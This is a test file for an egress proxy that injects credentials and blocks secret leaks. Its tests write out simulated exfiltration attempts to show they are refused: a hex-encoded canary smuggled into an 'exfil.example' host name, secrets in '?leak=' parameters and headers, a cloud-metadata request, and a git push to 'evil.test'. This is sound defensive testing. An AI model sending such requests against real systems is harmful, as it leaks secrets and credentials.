import { execFile } from "node:child_process";
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import net from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { promisify } from "node:util";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import {
  anyAddress,
  createCertificateAuthority,
  createEgressProxy,
  type EgressAuditEvent,
  type EgressListener,
  type EgressPolicy,
  type EgressProxy,
  secretPlaceholder,
  toAuditEntry,
} from "../src/index.js";
import { gitHttpBackend } from "./helpers/git-http-server.js";
import { requestThroughProxy } from "./helpers/proxy-client.js";
import { startUpstream, type Upstream } from "./helpers/upstream-server.js";

const run = promisify(execFile);
const TOKEN = "ghs_realUpstreamToken_9f8e7d6c5b4a";
const OTHER_SECRET = "npm_otherSecretValue_1234567890";
const CANARY = "AKIAOUTRIGCANARY0000FAKE";
const context = { orgId: "org_test", userId: "usr_test", sessionId: "ses_test" };

describe("egress proxy", () => {
  let directory: string;
  let socketPath: string;
  let upstreamCa: ReturnType<typeof createCertificateAuthority>;
  const egressCa = createCertificateAuthority();
  let apiUpstream: Upstream;
  let plainUpstream: Upstream;
  let echoUpstream: Upstream;
  let proxy: EgressProxy;
  let listener: EgressListener;
  let strictProxy: EgressProxy;
  let strictSocketPath: string;
  const audit: EgressAuditEvent[] = [];
  let policy: EgressPolicy;

  // The upstreams listen on random ports: every entry names its port (a bare name means 443 and 80).
  const basePolicy = (): EgressPolicy => ({
    allowedHosts: [
      `api.test:${apiUpstream.port}`,
      `api.test:${plainUpstream.port}`,
      `plain.test:${plainUpstream.port}`,
      "*.repos.test",
      `nosecret.test:${apiUpstream.port}`,
      `echo.test:${echoUpstream.port}`,
    ],
    credentials: [
      { host: `echo.test:${echoUpstream.port}`, secretName: "API_TOKEN", scheme: "bearer" },
      { host: `api.test:${apiUpstream.port}`, secretName: "API_TOKEN", scheme: "bearer" },
      { host: `api.test:${plainUpstream.port}`, secretName: "API_TOKEN", scheme: "bearer" },
      { host: "*.repos.test", secretName: "API_TOKEN", scheme: "basic" },
      { host: `nosecret.test:${apiUpstream.port}`, secretName: "MISSING_TOKEN", scheme: "bearer" },
    ],
    canaries: [CANARY],
  });
  const secrets = new Map([
    ["API_TOKEN", TOKEN],
    ["OTHER", OTHER_SECRET],
  ]);
  const toLoopback = async () => [{ address: "127.0.0.1", family: 4 }];

  beforeAll(async () => {
    directory = await mkdtemp(join(tmpdir(), "outrig-egress-"));
    socketPath = join(directory, "proxy.sock");
    strictSocketPath = join(directory, "strict.sock");
    upstreamCa = createCertificateAuthority(undefined, { commonName: "upstream test CA" });
    const leaf = upstreamCa.issueLeaf("api.test");
    apiUpstream = await startUpstream({ tls: { key: leaf.keyPem, cert: leaf.certificatePem } });
    plainUpstream = await startUpstream();
    const echoLeaf = upstreamCa.issueLeaf("echo.test");
    echoUpstream = await startUpstream({
      tls: { key: echoLeaf.keyPem, cert: echoLeaf.certificatePem },
      handler: (request, response) => {
        const seen = String(request.headers.authorization);
        if (request.url === "/header") response.writeHead(200, { "x-seen": seen });
        response.end(request.url === "/body" ? `padding ${"p".repeat(70_000)} you sent: ${seen}` : "ok");
      },
    });
    const options = {
      ca: egressCa,
      policy: () => policy,
      secrets: {
        resolveSecret: async (_context: unknown, name: string) => secrets.get(name) ?? null,
        resolveAllSecrets: async () => secrets,
      },
      onAudit: (event: EgressAuditEvent) => audit.push(event),
      resolveHost: toLoopback,
      upstreamCa: upstreamCa.certificatePem,
    };
    proxy = createEgressProxy({ ...options, addressPolicy: anyAddress });
    listener = await proxy.listen({ socketPath }, context);
    // The default address policy: loopback upstreams must be refused even though allowlisted.
    strictProxy = createEgressProxy(options);
    await strictProxy.listen({ socketPath: strictSocketPath }, context);
  });
  afterAll(async () => {
    await proxy?.close();
    await strictProxy?.close();
    await apiUpstream?.close();
    await plainUpstream?.close();
    await echoUpstream?.close();
    await rm(directory, { recursive: true, force: true });
  });
  beforeEach(() => {
    policy = basePolicy();
    audit.length = 0;
  });

  const through = (request: Parameters<typeof requestThroughProxy>[2], path = socketPath) =>
    requestThroughProxy(path, egressCa.certificatePem, request);

  it("listens on a unix socket with mode 0600", async () => {
    const { stat } = await import("node:fs/promises");
    expect(listener.address).toBe(socketPath);
    expect((await stat(socketPath)).mode & 0o777).toBe(0o600);
  });

  it("injects the real token over intercepted HTTPS while the client only holds a placeholder", async () => {
    const before = apiUpstream.requests.length;
    const response = await through({
      url: `https://api.test:${apiUpstream.port}/user?x=1`,
      headers: {
        authorization: `Bearer ${secretPlaceholder("API_TOKEN")}`,
        "x-api-key": `key=${secretPlaceholder("API_TOKEN")}`,
        "x-other": secretPlaceholder("OTHER"),
      },
    });
    expect(response.status).toBe(200);
    expect(JSON.parse(response.body)).toEqual({ method: "GET", url: "/user?x=1" });
    const seen = apiUpstream.requests.slice(before);
    expect(seen).toHaveLength(1);
    expect(seen[0]?.headers.authorization).toBe(`Bearer ${TOKEN}`);
    expect(seen[0]?.headers["x-api-key"]).toBe(`key=${TOKEN}`);
    // A placeholder for a secret not bound to this host is never swapped (no exfiltration by name).
    expect(seen[0]?.headers["x-other"]).toBe(secretPlaceholder("OTHER"));
    expect(response.body).not.toContain(TOKEN);

    expect(audit.map((event) => [event.kind, event.decision, event.secretNames])).toEqual([
      ["egress", "allowed", ["API_TOKEN"]],
      ["secret_use", "allowed", ["API_TOKEN"]],
    ]);
    expect(audit[0]).toMatchObject({
      scheme: "https",
      host: "api.test",
      path: "/user",
      status: 200,
      context,
    });
    expect(JSON.stringify(audit)).not.toContain(TOKEN);
    expect(toAuditEntry(audit[1] as EgressAuditEvent)).toMatchObject({
      kind: "secret_use",
      sessionId: "ses_test",
      userId: "usr_test",
      data: {
        url: `https://api.test:${apiUpstream.port}/user`,
        decision: "allowed",
        secretNames: ["API_TOKEN"],
      },
    });
  });

  it("refuses hosts off the allowlist with a readable 403 over HTTPS and plain HTTP", async () => {
    const secure = await through({ url: "https://example.com/" });
    expect(secure.status).toBe(403);
    expect(secure.headers["x-outrig-egress-refusal"]).toBe("host_not_allowed");
    expect(secure.body).toContain("outrig egress: host example.com is not on this org's egress allowlist");
    const plain = await through({ url: "http://example.com/path?q=1" });
    expect(plain.status).toBe(403);
    expect(plain.body).toContain("host example.com is not on this org's egress allowlist");
    expect(audit.map((event) => [event.decision, event.refusal, event.host, event.path])).toEqual([
      ["refused", "host_not_allowed", "example.com", "/"],
      ["refused", "host_not_allowed", "example.com", "/path"],
    ]);
  });

  it("forwards plain HTTP to an allowlisted host and refuses to add credentials without TLS", async () => {
    const ok = await through({
      url: `http://plain.test:${plainUpstream.port}/hello`,
      method: "POST",
      body: "hi",
    });
    expect(ok.status).toBe(200);
    expect(plainUpstream.requests.at(-1)?.body.toString()).toBe("hi");
    const before = plainUpstream.requests.length;
    const refused = await through({ url: `http://api.test:${plainUpstream.port}/` });
    expect(refused.status).toBe(403);
    expect(refused.body).toContain("only added over HTTPS");
    expect(plainUpstream.requests.length).toBe(before);
  });

  it("answers 502 with a readable reason when an allowlisted upstream is down, and keeps serving", async () => {
    const closed = await startUpstream();
    await closed.close();
    policy = {
      ...basePolicy(),
      allowedHosts: [`plain.test:${closed.port}`, `plain.test:${plainUpstream.port}`],
    };
    const response = await through({ url: `http://plain.test:${closed.port}/` });
    expect(response.status).toBe(502);
    expect(response.body).toBe(`outrig egress: cannot reach plain.test:${closed.port} (ECONNREFUSED)\n`);
    expect(audit).toEqual([expect.objectContaining({ refusal: "upstream_unreachable", status: 502 })]);
    expect((await through({ url: `http://plain.test:${plainUpstream.port}/` })).status).toBe(200);
  });

  it("withholds a response that reflects the injected credential in a header or the body", async () => {
    const header = await through({ url: `https://echo.test:${echoUpstream.port}/header` });
    expect(header.status).toBe(502);
    expect(header.body).toBe(
      "outrig egress: the response from echo.test repeats the injected secret API_TOKEN; it was withheld\n",
    );
    expect(JSON.stringify(header.headers)).not.toContain(TOKEN);
    const body = await through({ url: `https://echo.test:${echoUpstream.port}/body` }).catch(
      (error: Error) => error,
    );
    // The body had started: the connection is cut, and no byte of the token got through.
    if (!(body instanceof Error)) expect(body.body).not.toContain(TOKEN.slice(0, 8));
    // The credential did go out: its use is recorded too, flagged.
    expect(audit.map((event) => [event.kind, event.refusal, event.isFlagged, event.matched])).toEqual([
      ["egress", "secret_in_response", true, "secret API_TOKEN"],
      ["secret_use", "secret_in_response", true, "secret API_TOKEN"],
      ["egress", "secret_in_response", true, "secret API_TOKEN"],
      ["secret_use", "secret_in_response", true, "secret API_TOKEN"],
    ]);
    const fine = await through({ url: `https://echo.test:${echoUpstream.port}/plain` });
    expect(fine.status).toBe(200);
  });

  it("refuses when a configured credential's secret is not set", async () => {
    const response = await through({ url: `https://nosecret.test:${apiUpstream.port}/` });
    expect(response.status).toBe(403);
    expect(response.body).toContain("needs secret MISSING_TOKEN, which is not set");
  });

  it("refuses allowlisted names that resolve to loopback, and metadata IPs, under the default address policy", async () => {
    const before = apiUpstream.requests.length;
    const loopback = await through({ url: `https://api.test:${apiUpstream.port}/` }, strictSocketPath);
    expect(loopback.status).toBe(403);
    expect(loopback.body).toContain(
      "host api.test resolves to 127.0.0.1 (loopback), which egress never connects to",
    );
    policy = { ...basePolicy(), allowedHosts: ["169.254.169.254", `plain.test:${plainUpstream.port}`] };
    const metadata = await through({ url: "http://169.254.169.254/latest/meta-data/" }, strictSocketPath);
    expect(metadata.status).toBe(403);
    expect(metadata.body).toContain("169.254.169.254 (link-local (cloud metadata))");
    const plain = await through({ url: `http://plain.test:${plainUpstream.port}/` }, strictSocketPath);
    expect(plain.headers["x-outrig-egress-refusal"]).toBe("address_not_allowed");
    expect(apiUpstream.requests.length).toBe(before);
  });

  describe("blocks and flags requests carrying a secret or canary", () => {
    const encodings: [string, (value: string) => string][] = [
      ["plain", (value) => value],
      ["base64", (value) => Buffer.from(value).toString("base64")],
      ["base64 at offset 1", (value) => Buffer.from(`x${value}`).toString("base64")],
      ["base64 at offset 2", (value) => Buffer.from(`xy${value}`).toString("base64url")],
      ["hex", (value) => Buffer.from(value).toString("hex")],
      ["HEX", (value) => Buffer.from(value).toString("hex").toUpperCase()],
    ];
    const places: [string, (encoded: string) => Parameters<typeof requestThroughProxy>[2]][] = [
      [
        "URL",
        (encoded) => ({ url: `https://api.test:${apiUpstream.port}/x?leak=${encodeURIComponent(encoded)}` }),
      ],
      [
        "header",
        (encoded) => ({ url: `https://api.test:${apiUpstream.port}/`, headers: { "x-data": encoded } }),
      ],
      [
        "body",
        (encoded) => ({
          url: `https://api.test:${apiUpstream.port}/`,
          method: "POST",
          body: `{"data":"${encoded}"}`,
        }),
      ],
    ];
    for (const [placeName, place] of places) {
      for (const [encodingName, encode] of encodings) {
        for (const [valueName, value, label] of [
          ["canary", CANARY, "canary #1"],
          ["secret", OTHER_SECRET, "secret OTHER"],
        ] as const) {
          it(`${valueName}, ${encodingName}, in the ${placeName}`, async () => {
            const before = apiUpstream.requests.length;
            const response = await through(place(encode(value)));
            expect(response.status).toBe(403);
            expect(response.headers["x-outrig-egress-refusal"]).toBe("secret_in_request");
            expect(response.body).toContain(`carries the value of ${label}`);
            expect(response.body).not.toContain(value);
            expect(apiUpstream.requests.length).toBe(before);
            expect(audit).toEqual([
              expect.objectContaining({
                kind: "egress",
                decision: "refused",
                isFlagged: true,
                matched: label,
              }),
            ]);
          });
        }
      }
    }

    it("in a Basic auth header and over plain HTTP", async () => {
      const basic = await through({
        url: `https://api.test:${apiUpstream.port}/`,
        headers: { authorization: `Basic ${Buffer.from(`user:${OTHER_SECRET}`).toString("base64")}` },
      });
      expect(basic.status).toBe(403);
      const plain = await through({ url: `http://plain.test:${plainUpstream.port}/?k=${CANARY}` });
      expect(plain.status).toBe(403);
      expect(plain.body).toContain("canary #1");
    });

    it("deep in a large streamed body, without forwarding any byte of it", async () => {
      const before = apiUpstream.requests.length;
      const body = Buffer.concat([
        Buffer.alloc(2 * 1024 * 1024, "a"),
        Buffer.from(CANARY),
        Buffer.alloc(1000, "b"),
      ]);
      const response = await through({
        url: `https://api.test:${apiUpstream.port}/upload`,
        method: "POST",
        body,
      });
      expect(response.status).toBe(403);
      expect(response.body).toContain("its body carries the value of canary #1");
      // The upstream may have seen a truncated request, never the canary.
      for (const request of apiUpstream.requests.slice(before)) {
        expect(request.body.includes(CANARY)).toBe(false);
      }
    });

    it("but lets ordinary traffic and the placeholder itself through", async () => {
      const response = await through({
        url: `https://api.test:${apiUpstream.port}/ok?q=${secretPlaceholder("OTHER")}`,
        method: "POST",
        body: "a perfectly ordinary body with no secrets",
      });
      expect(response.status).toBe(200);
      expect(audit[0]).toMatchObject({ decision: "allowed", isFlagged: false });
    });
  });

  it("names a labelled canary, and a small body carrying one never opens an upstream request", async () => {
    policy = { ...basePolicy(), canaries: [{ label: "AWS_SECRET_ACCESS_KEY", value: CANARY }] };
    const before = apiUpstream.started.length;
    const response = await through({
      url: `https://api.test:${apiUpstream.port}/upload`,
      method: "POST",
      body: `aws=${CANARY}`,
    });
    expect(response.status).toBe(403);
    expect(response.body).toContain("its body carries the value of canary AWS_SECRET_ACCESS_KEY");
    expect(apiUpstream.started.length).toBe(before);
    expect(audit[0]).toMatchObject({
      refusal: "secret_in_request",
      matched: "canary AWS_SECRET_ACCESS_KEY",
      message: expect.stringContaining("canary AWS_SECRET_ACCESS_KEY"),
    });
  });

  it("flags a secret in the host name before the allowlist, and never reports that host", async () => {
    const hex = Buffer.from(CANARY).toString("hex");
    const response = await through({ url: `https://${hex}.exfil.example/` });
    expect(response.status).toBe(403);
    expect(response.headers["x-outrig-egress-refusal"]).toBe("secret_in_request");
    expect(response.body).toContain("its host name carries the value of canary #1");
    expect(response.body).not.toContain(hex);
    expect(audit[0]).toMatchObject({ host: "[redacted]", path: "[redacted]", isFlagged: true });
    expect(JSON.stringify(audit)).not.toContain(hex);
    const inPath = await through({ url: `https://example.com/${CANARY}` });
    expect(inPath.status).toBe(403);
    expect(audit[1]).toMatchObject({ host: "example.com", path: "[redacted]", refusal: "secret_in_request" });
  });

  it("reaches an operator-pinned host at its pinned address while names resolving to loopback stay refused", async () => {
    const pinned = createEgressProxy({
      ca: egressCa,
      policy: () => policy,
      secrets: { resolveSecret: async () => TOKEN, resolveAllSecrets: async () => secrets },
      onAudit: (event) => audit.push(event),
      resolveHost: toLoopback,
      upstreamCa: upstreamCa.certificatePem,
      pinnedHosts: new Map([["API.test", ["127.0.0.1"]]]),
      allowlistHint: "an org admin can add it (PUT /v1/egress-policy)",
    });
    const pinnedSocket = join(directory, "pinned.sock");
    await pinned.listen({ socketPath: pinnedSocket }, context);
    try {
      const ok = await through({ url: `https://api.test:${apiUpstream.port}/pinned` }, pinnedSocket);
      expect(ok.status).toBe(200);
      const loopback = await through({ url: `http://plain.test:${plainUpstream.port}/` }, pinnedSocket);
      expect(loopback.status).toBe(403);
      expect(loopback.headers["x-outrig-egress-refusal"]).toBe("address_not_allowed");
      const off = await through({ url: "https://off.example/" }, pinnedSocket);
      expect(off.body).toBe(
        "outrig egress: host off.example is not on this org's egress allowlist; an org admin can add it (PUT /v1/egress-policy)\n",
      );
    } finally {
      await pinned.close();
    }
  });

  it("refuses a malformed CONNECT target and a relative request with a readable error", async () => {
    const http = await import("node:http");
    const relative = await new Promise<{ status: number; body: string }>((resolve, reject) => {
      http
        .get({ socketPath, path: "/not-absolute" }, (response) => {
          let body = "";
          response.on("data", (chunk) => {
            body += chunk;
          });
          response.on("end", () => resolve({ status: response.statusCode ?? 0, body }));
        })
        .on("error", reject);
    });
    expect(relative.status).toBe(400);
    expect(relative.body).toContain("send an absolute http:// URL or use CONNECT");
    const connect = await new Promise<number>((resolve, reject) => {
      const request = http.request({ socketPath, method: "CONNECT", path: "no-port-here" });
      request.on("connect", (response, socket) => {
        socket.destroy();
        resolve(response.statusCode ?? 0);
      });
      request.on("response", (response) => resolve(response.statusCode ?? 0));
      request.on("error", reject);
      request.end();
    });
    expect(connect).toBe(400);
  });
});

describe("git over HTTPS through egress", () => {
  const GIT_TOKEN = "gittoken_onlyTheProxyKnows_5a4b3c2d1e";
  let directory: string;
  let upstream: Upstream;
  let proxy: EgressProxy;
  let bridge: net.Server;
  let bridgePort: number;
  const egressCa = createCertificateAuthority();
  const audit: EgressAuditEvent[] = [];

  beforeAll(async () => {
    directory = await mkdtemp(join(tmpdir(), "outrig-egress-git-"));
    const upstreamCa = createCertificateAuthority(undefined, { commonName: "git upstream CA" });
    const leaf = upstreamCa.issueLeaf("git.repos.test");
    await run("git", ["init", "--bare", "-q", "-b", "main", join(directory, "server", "repo.git")]);
    upstream = await startUpstream({
      tls: { key: leaf.keyPem, cert: leaf.certificatePem },
      handler: gitHttpBackend(join(directory, "server"), GIT_TOKEN),
    });
    proxy = createEgressProxy({
      ca: egressCa,
      policy: () => ({
        allowedHosts: [`git.repos.test:${upstream.port}`],
        credentials: [{ host: `*.repos.test:${upstream.port}`, secretName: "GIT_TOKEN", scheme: "basic" }],
        canaries: [],
      }),
      secrets: {
        resolveSecret: async (_context, name) => (name === "GIT_TOKEN" ? GIT_TOKEN : null),
        resolveAllSecrets: async () => new Map([["GIT_TOKEN", GIT_TOKEN]]),
      },
      onAudit: (event) => audit.push(event),
      resolveHost: async () => [{ address: "127.0.0.1", family: 4 }],
      addressPolicy: anyAddress,
      upstreamCa: upstreamCa.certificatePem,
    });
    const socketPath = join(directory, "proxy.sock");
    await proxy.listen({ socketPath }, context);
    // What socat does inside the sandbox: 127.0.0.1:<port> → the proxy's unix socket.
    bridge = net.createServer((client) => {
      const upstreamSocket = net.connect(socketPath);
      client.pipe(upstreamSocket).pipe(client);
      client.on("error", () => upstreamSocket.destroy());
      upstreamSocket.on("error", () => client.destroy());
    });
    await new Promise<void>((resolve) => bridge.listen(0, "127.0.0.1", resolve));
    bridgePort = (bridge.address() as net.AddressInfo).port;
    await writeFile(join(directory, "ca.pem"), egressCa.certificatePem);
  });
  afterAll(async () => {
    bridge?.close();
    await proxy?.close();
    await upstream?.close();
    await rm(directory, { recursive: true, force: true });
  });

  async function git(args: string[], cwd: string) {
    const env = {
      PATH: process.env.PATH ?? "/usr/bin:/bin",
      HOME: directory,
      GIT_CONFIG_NOSYSTEM: "1",
      GIT_TERMINAL_PROMPT: "0",
      GIT_SSL_CAINFO: join(directory, "ca.pem"),
      HTTPS_PROXY: `http://127.0.0.1:${bridgePort}`,
      GIT_AUTHOR_NAME: "Sandbox",
      GIT_AUTHOR_EMAIL: "sandbox@example.invalid",
      GIT_COMMITTER_NAME: "Sandbox",
      GIT_COMMITTER_EMAIL: "sandbox@example.invalid",
    };
    expect(JSON.stringify(env)).not.toContain(GIT_TOKEN);
    return run("git", args, { cwd, env });
  }

  it("pushes with a token the client never had, and clones it back", async () => {
    const work = join(directory, "work");
    await run("git", ["init", "-q", "-b", "main", work]);
    await writeFile(join(work, "README.md"), "pushed through egress\n");
    await git(["add", "README.md"], work);
    await git(["commit", "-q", "-m", "first"], work);
    await git(["push", "-q", `https://git.repos.test:${upstream.port}/repo.git`, "main"], work);

    const { stdout } = await run("git", [
      "--git-dir",
      join(directory, "server", "repo.git"),
      "log",
      "--format=%s",
    ]);
    expect(stdout.trim()).toBe("first");
    const clone = join(directory, "clone");
    await git(["clone", "-q", `https://git.repos.test:${upstream.port}/repo.git`, clone], directory);
    const { stdout: readme } = await run("cat", [join(clone, "README.md")]);
    expect(readme).toBe("pushed through egress\n");
    const injected = upstream.requests.filter((request) =>
      request.headers.authorization?.startsWith("Basic "),
    );
    expect(injected.length).toBe(upstream.requests.length);
    expect(audit.filter((event) => event.kind === "secret_use").length).toBeGreaterThanOrEqual(2);
  });

  it("fails with a clear message for a host off the allowlist", async () => {
    const work = join(directory, "work");
    const failure = await git(
      ["push", "-q", `https://evil.test:${upstream.port}/repo.git`, "main"],
      work,
    ).catch((error: { stderr: string }) => error);
    // git prints the status, not the body: "The requested URL returned error: 403".
    expect((failure as { stderr: string }).stderr).toMatch(/evil\.test.*403/s);
    expect(audit.at(-1)).toMatchObject({
      decision: "refused",
      refusal: "host_not_allowed",
      host: "evil.test",
    });
  });
});
